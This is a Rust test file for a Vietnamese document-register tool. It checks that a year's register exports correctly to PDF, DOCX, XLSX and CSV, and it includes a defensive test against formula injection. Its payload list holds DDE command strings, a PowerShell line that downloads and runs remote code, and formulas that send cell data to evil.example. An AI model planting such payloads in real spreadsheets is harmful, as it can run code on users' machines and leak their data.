//! The register as a book, as a workbook and as CSV: 2,000 rows of an office's year.
//!
//! With `VANTHU_REGISTER_OUT` set to a folder, the files are left there for the outside
//! judges of `tests/conformance`; `VANTHU_REGISTER_ROWS` is how many rows they have.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test that cannot go on fails")]

use std::io::{Cursor, Read};
use std::path::PathBuf;

use calamine::{Data, Reader, Xlsx};
use chrono::{Days, NaiveDate};
use expect_test::expect_file;
use typst::layout::{Frame, FrameItem};
use vanthu::archive::metadata::{Facts, Metadata};
use vanthu::archive::{Entry, Key, RequestId, Series, State, sheet};
use vanthu::doc::{Block, Document};
use vanthu::export::{Format, pdf};
use vanthu::form;
use vanthu::model::{Register, RegisterRow, Urgency};
use vanthu::nd30::Preset;
use vanthu::render::{self, Office};
use zip::ZipArchive;

#[test]
fn a_register_of_2_000_rows_is_written_in_both_formats() {
    let count = row_count();
    let register = a_year(count);
    let office = Office::open(None).unwrap_or_else(|_| panic!("the shipped templates open"));
    let document = office.register(&register).unwrap();
    let (files, layout) = render::files(&document, &Format::ALL).unwrap();
    let pages = layout.unwrap().pages;
    let rows = pages - form::REGISTER_FRONT_PAGES;
    // Of these texts there is room for eight rows on a page.
    assert!((7..10).contains(&(count as usize / rows)), "{pages}");
    let counted = if count == 2_000 { "2.000".to_owned() } else { count.to_string() };
    assert_eq!(
        statements(&document),
        [
            format!(
                "Sổ này có {rows} trang đăng ký, đánh số từ trang 1 đến trang {rows}, dùng để đăng ký văn bản đi."
            ),
            format!("Sổ này có {counted} số đăng ký, kết thúc ở số {count:02}, trên {rows} trang."),
        ]
    );
    for file in files {
        leave(&format!("so_dang_ky_2026.{}", file.format.extension()), &file.bytes);
    }
}

#[test]
fn a_small_register_is_as_kept_in_both_formats() {
    let register = Register { pages: Some(1), ..a_year(5) };
    let document = form::register(&register, &Preset::default());
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/cases/so_dang_ky");
    let pages = pdf::compile(&pdf::paper(&document).unwrap()).unwrap();
    let pages: Vec<String> =
        pages.pages().iter().map(|page| runs(&page.frame).join("\n")).collect();
    expect_file![folder.join("trang.txt")].assert_eq(&(pages.join("\n\u{2014}\n") + "\n"));
    let docx = Format::Docx.write(&document).unwrap().files.remove(0);
    let mut package = ZipArchive::new(Cursor::new(docx)).unwrap();
    let mut xml = String::new();
    package.by_name("word/document.xml").unwrap().read_to_string(&mut xml).unwrap();
    let lines = xml.replace("><", ">\n<") + "\n";
    expect_file![folder.join("document.xml")].assert_eq(&lines);
}

/// The texts of a page in the order in which they are set, each as long as it has one look.
fn runs(frame: &Frame) -> Vec<String> {
    let run = |(_, item): &(_, FrameItem)| match item {
        FrameItem::Text(text) => vec![text.text.to_string()],
        FrameItem::Group(group) => runs(&group.frame),
        _ => vec![],
    };
    frame.items().flat_map(run).collect()
}

/// What the book says of itself.
fn statements(document: &Document) -> Vec<String> {
    let blocks = document.sections.iter().flat_map(|section| &section.blocks);
    let plain = blocks.filter_map(|block| match block {
        Block::Paragraph(paragraph) => Some(paragraph.plain()),
        _ => None,
    });
    plain.filter(|text| text.starts_with("Sổ này có")).collect()
}

#[test]
fn no_text_however_odd_keeps_a_register_from_being_printed() {
    let register = Register {
        organ: format!("Sở {}", "Ơ".repeat(90)),
        superior: Some("文😀".into()),
        printed: NaiveDate::from_ymd_opt(2026, 12, 31),
        ..Register::of("", 2026, odd_rows())
    };
    let document = form::register(&register, &Preset::default());
    let (files, _) = render::files(&document, &Format::ALL).unwrap();
    for file in files {
        leave(&format!("so_dang_ky_la.{}", file.format.extension()), &file.bytes);
    }
    leave("so_dang_ky_la.csv", &sheet::csv(&register));
}

/// Each odd text in each column, and rows without any.
fn odd_rows() -> Vec<RegisterRow> {
    let long = "W".repeat(300);
    let address = format!("https://a.example/{}", "b-c/d?e=f&g_".repeat(25));
    let page = (0..1_500).map(|at| format!("từ{at}")).collect::<Vec<_>>().join(" ");
    let odd = [
        &long,
        &address,
        &page,
        "",
        "文字 😀 \u{5d0}\u{5d1}\u{5d2} \u{627}\u{644}",
        "a<b>&\"'c]]> #*_`$\\@~=-+/",
        "Nguyễn\u{a0}Thị\u{a0}Hồng\u{a0}Hạnh\u{a0}Nguyễn\u{a0}Thị\u{a0}Hồng\u{a0}Hạnh",
        "  hai   dấu   cách  ",
        "[bang A] {{ so }} =1+1",
    ];
    let columns: [fn(&mut RegisterRow, &str); 7] = [
        |row, text| row.code = text.into(),
        |row, text| row.title = text.into(),
        |row, text| row.signer = text.into(),
        |row, text| row.recipients = text.into(),
        |row, text| row.kept_by = text.into(),
        |row, text| row.receipt = text.into(),
        |row, text| row.note = text.into(),
    ];
    let of = |text: &'static str| columns.map(|set| (set, text));
    let odd: Vec<&'static str> = odd.iter().map(|text| &*String::from(*text).leak()).collect();
    let rows = odd.into_iter().flat_map(of).enumerate().map(|(at, (set, text))| {
        let mut row = row(u32::try_from(at).unwrap() + 1, 100);
        set(&mut row, text);
        row.copies = Some(if at % 2 == 0 { u32::MAX } else { 1 });
        row
    });
    rows.collect()
}

#[test]
fn the_workbook_and_the_csv_hold_what_is_printed() {
    let register = a_year(row_count());
    let created = register.printed.unwrap();
    let workbook = sheet::xlsx(&register, created).unwrap();
    assert!(workbook == sheet::xlsx(&register, created).unwrap());
    leave("so_dang_ky_2026.xlsx", &workbook);
    let csv = sheet::csv(&register);
    leave("so_dang_ky_2026.csv", &csv);
    let (cells, lines) = (cells(&workbook), lines(&csv));
    assert_eq!([cells.len(), lines.len()], [register.rows.len() + 1; 2]);
    for ((row, cells), line) in register.rows.iter().zip(&cells[1..]).zip(&lines[1..]) {
        assert_eq!(row.texts().to_vec(), *line);
        for (column, (cell, text)) in cells.iter().zip(line).enumerate() {
            match (column, cell) {
                (1 | 7, Data::DateTime(_)) => assert_eq!(shown_date(cell), *text),
                (6, Data::Float(number)) => assert_eq!(number.to_string(), *text),
                (1 | 6 | 7, cell) => assert!(*cell == Data::Empty && text.is_empty(), "{cell:?}"),
                (_, Data::Empty) => assert_eq!(text, ""),
                (_, cell) => assert_eq!(*cell, Data::String(text.clone())),
            }
        }
    }
}

/// A date cell as the register prints it.
fn shown_date(cell: &Data) -> String {
    let Data::DateTime(date) = cell else { panic!("{cell:?}") };
    let days = date.as_f64();
    assert!(days.fract() == 0.0 && days > 40_000.0);
    let epoch = NaiveDate::from_ymd_opt(1899, 12, 30).unwrap();
    vanthu::vi::date::short(epoch + Days::new(days as u64))
}

#[test]
fn two_hundred_payloads_stay_text_in_the_workbook_and_in_csv() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 200);
    let rows = payloads.iter().map(|payload| RegisterRow {
        code: payload.clone(),
        title: payload.clone(),
        signer: payload.clone(),
        recipients: payload.clone(),
        kept_by: payload.clone(),
        receipt: payload.clone(),
        note: payload.clone(),
        ..row(1, 1)
    });
    let register = Register::of("=Sở", 2026, rows.collect());
    let workbook = sheet::xlsx(&register, register.rows[0].date).unwrap();
    leave("cong_thuc.xlsx", &workbook);
    let csv = sheet::csv(&register);
    leave("cong_thuc.csv", &csv);
    leave("cong_thuc.json", serde_json::to_string(&payloads).unwrap().as_bytes());
    let (cells, lines) = (cells(&workbook), lines(&csv));
    assert!(formulas(&workbook).is_empty());
    for ((payload, cells), line) in payloads.iter().zip(&cells[1..]).zip(&lines[1..]) {
        for column in [0, 2, 3, 4, 5, 8, 9] {
            assert_eq!(cells[column], Data::String(payload.clone()));
            assert_eq!(line[column], format!("'{payload}"));
        }
    }
}

/// Eight signs with which something is calculated, before what has been done with them.
fn payloads() -> Vec<String> {
    let starts = ["=", "+", "-", "@", "\t=", "\r=", "=-", "+@"];
    let bodies = [
        "1+1",
        "A1",
        "SUM(A1:A9)",
        "SUM(1+1)*cmd|' /C calc'!A0",
        "cmd|' /C calc'!A0",
        "cmd|'/c powershell IEX(wget 0r.pe/p)'!A0",
        "HYPERLINK(\"http://evil.example/?x=\"&A1,\"Xem\")",
        "IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
        "IMAGE(\"http://evil.example/a.png\")",
        "WEBSERVICE(\"http://evil.example/\"&A1)",
        "DDE(\"cmd\";\"/C calc\";\"1\")",
        "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A",
        "RUNDLL32(\"URL.dll\")",
        "EXEC(\"calc\")",
        "CALL(\"urlmon\",\"URLDownloadToFileA\")",
        "'quoted'",
        "\"quoted\"",
        "\"\"",
        "1;2,3\t4",
        "2026-01-05",
        "1E5",
        "TRUE",
        "#REF!",
        "đề nghị",
        "",
    ];
    let with = |start: &'static str| bodies.map(|body| format!("{start}{body}"));
    starts.into_iter().flat_map(with).collect()
}

/// Every cell of the sheet, row by row.
fn cells(workbook: &[u8]) -> Vec<Vec<Data>> {
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(workbook)).unwrap();
    let range = book.worksheet_range_at(0).unwrap().unwrap();
    range.rows().map(<[Data]>::to_vec).collect()
}

fn formulas(workbook: &[u8]) -> Vec<String> {
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(workbook)).unwrap();
    let name = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&name).unwrap();
    formulas.used_cells().map(|(_, _, formula)| formula.clone()).collect()
}

/// Every cell of the file, line by line, as another reader takes it apart.
fn lines(file: &[u8]) -> Vec<Vec<String>> {
    let text = file.strip_prefix(b"\xEF\xBB\xBF").unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text);
    let record = |record: Result<csv::StringRecord, csv::Error>| {
        record.unwrap().iter().map(str::to_owned).collect()
    };
    reader.records().map(record).collect()
}

#[test]
fn the_metadata_of_documents_is_left_for_an_outside_judge() {
    let facts = Facts {
        organ_name: Some("Sở Nội vụ tỉnh A".into()),
        organ_id: Some("000.02.12.H28".into()),
        file_notation: Some("01.TCCB".into()),
        ordinal: Some(999),
        urgency: Some(Urgency::Express),
        due: NaiveDate::from_ymd_opt(2026, 9, 1),
    };
    let longest = Entry {
        subject: "ế".repeat(500),
        recipients: (0..99).map(|at| format!("{at} {}", "ộ".repeat(197))).collect(),
        ..entry()
    };
    let too_long = Entry { subject: "ế".repeat(501), ..entry() };
    let odd = Entry { subject: "a<b>&\"'c]]>\u{0}\u{fffe}".into(), ..entry() };
    for (name, entry, facts, fits) in [
        ("du", entry(), facts.clone(), true),
        ("thieu", entry(), Facts::default(), true),
        ("dai_nhat", longest, facts.clone(), true),
        ("qua_dai", too_long, facts.clone(), false),
        ("dau_la", odd, facts, true),
    ] {
        let metadata = Metadata::new(&entry, &facts);
        assert_eq!(metadata.too_long().is_empty(), fits, "{name}");
        leave(&format!("dac_ta_{name}.xml"), &metadata.xml().unwrap());
        leave(&format!("dac_ta_{name}.json"), &metadata.json().unwrap());
    }
}

fn entry() -> Entry {
    let series = Series { organ: "SỞ NỘI VỤ".into(), label: "chung".into(), year: 2026 };
    let row = row(5, 2_000);
    Entry {
        state: State::Issued,
        code: row.code,
        type_name: "Quyết định".into(),
        subject: "Về việc cử công chức".into(),
        signer: row.signer,
        position: "KT. GIÁM ĐỐC".into(),
        recipients: vec!["Bộ Nội vụ".into(), "UBND tỉnh".into()],
        kept_by: row.kept_by,
        copies: row.copies,
        sent: row.sent,
        pages: 2,
        case_sha256: "0".repeat(64),
        ..Entry::reserved(Key { series, number: 5, letter: None }, RequestId::of(5), row.date)
    }
}

fn leave(name: &str, bytes: &[u8]) {
    if let Some(folder) = std::env::var_os("VANTHU_REGISTER_OUT") {
        let folder = PathBuf::from(folder);
        std::fs::create_dir_all(&folder).unwrap();
        std::fs::write(folder.join(name), bytes).unwrap();
    }
}

fn row_count() -> u32 {
    std::env::var("VANTHU_REGISTER_ROWS").map_or(2_000, |count| count.parse().unwrap())
}

/// What an office of a province issues in a year, always the same.
fn a_year(count: u32) -> Register {
    let rows = (1..=count).map(|number| row(number, count)).collect();
    Register {
        superior: Some("Ủy ban nhân dân tỉnh Lâm Đồng".into()),
        book: Some(1),
        printed: NaiveDate::from_ymd_opt(2026, 12, 31),
        chain: Some((
            2_345,
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into(),
        )),
        ..Register::of("Sở Nội vụ", 2026, rows)
    }
}

fn row(number: u32, count: u32) -> RegisterRow {
    // Spread over the lists as a year's documents are, without chance.
    let turn = |step: u32, of: usize| (number * step + number / 7) as usize % of;
    let (kind, code) = KINDS[turn(5, KINDS.len())];
    let first = NaiveDate::from_ymd_opt(2026, 1, 5).unwrap();
    let date = first + Days::new(u64::from(number * 355 / count.max(1)));
    let to = 1 + turn(3, 5);
    let recipients: Vec<&str> = (0..to)
        .map(|at| RECIPIENTS[(turn(11, RECIPIENTS.len()) + at * 3) % RECIPIENTS.len()])
        .collect();
    let subject = SUBJECTS[turn(13, SUBJECTS.len())];
    let further = if turn(17, 9) == 0 { SUBJECTS[turn(19, SUBJECTS.len())] } else { "" };
    RegisterRow {
        code: format!("{number:02}{}/{code}", if number % 400 == 399 { "a" } else { "" }),
        date,
        title: format!("{kind} {subject} {further}").trim().to_owned(),
        signer: SIGNERS[turn(7, SIGNERS.len())].into(),
        recipients: recipients.join("; "),
        kept_by: KEEPERS[turn(2, KEEPERS.len())].into(),
        copies: (!number.is_multiple_of(11)).then(|| u32::try_from(to).unwrap() + 2),
        sent: (!number.is_multiple_of(13)).then_some(date + Days::new(u64::from(number % 2))),
        receipt: String::new(),
        note: NOTES.get(turn(1, NOTES.len() * 6)).copied().unwrap_or_default().into(),
    }
}

const KINDS: [(&str, &str); 8] = [
    ("Báo cáo", "BC-SNV"),
    ("Quyết định", "QĐ-SNV"),
    ("Công văn V/v", "SNV-CCVC"),
    ("Công văn V/v", "SNV-CCHC&VTLT"),
    ("Tờ trình", "TTr-SNV"),
    ("Kế hoạch", "KH-SNV"),
    ("Thông báo", "TB-SNV"),
    ("Giấy mời", "GM-SNV"),
];

const SUBJECTS: [&str; 9] = [
    "về tình hình thực hiện công tác cải cách hành chính quý III và phương hướng, nhiệm vụ quý IV năm 2026",
    "cử công chức tham gia lớp bồi dưỡng nghiệp vụ văn thư, lưu trữ",
    "về việc tuyển dụng viên chức sự nghiệp giáo dục và đào tạo năm học 2026-2027",
    "nâng bậc lương thường xuyên",
    "về việc phê duyệt danh mục vị trí việc làm trong các cơ quan, tổ chức hành chính cấp xã sau sắp xếp đơn vị hành chính",
    "góp ý dự thảo Nghị quyết của Hội đồng nhân dân tỉnh quy định chính sách hỗ trợ cán bộ, công chức, viên chức",
    "họp giao ban công tác tháng 8",
    "kiểm tra việc thực hiện kỷ luật, kỷ cương hành chính",
    "về kết quả giải quyết khiếu nại, tố cáo 9 tháng đầu năm",
];

const RECIPIENTS: [&str; 10] = [
    "Bộ Nội vụ",
    "UBND tỉnh",
    "Các sở, ban, ngành",
    "UBND các xã, phường, đặc khu",
    "Văn phòng UBND tỉnh",
    "Như Điều 3",
    "Thanh tra tỉnh",
    "Sở Tài chính",
    "Lưu: VT, CCVC",
    "Cục Văn thư và Lưu trữ nhà nước",
];

const SIGNERS: [&str; 4] =
    ["Nguyễn Thị Hồng Hạnh", "Trần Văn Bình", "Lê Minh Quang", "Phạm Đỗ Nguyên Phương"];

const KEEPERS: [&str; 4] = ["VT", "VT, CCVC", "VT, Phòng Cải cách hành chính", "VT, VP, nthai"];

const NOTES: [&str; 5] = [
    "Hủy số: ghi nhầm loại văn bản",
    "Được thay thế bởi 12/QĐ-SNV ngày 05/3/2026",
    "Thu hồi: sai thẩm quyền ban hành",
    "Bản giấy gửi bưu điện",
    "Đính chính 205/SNV-CCVC ngày 17/4/2026",
];
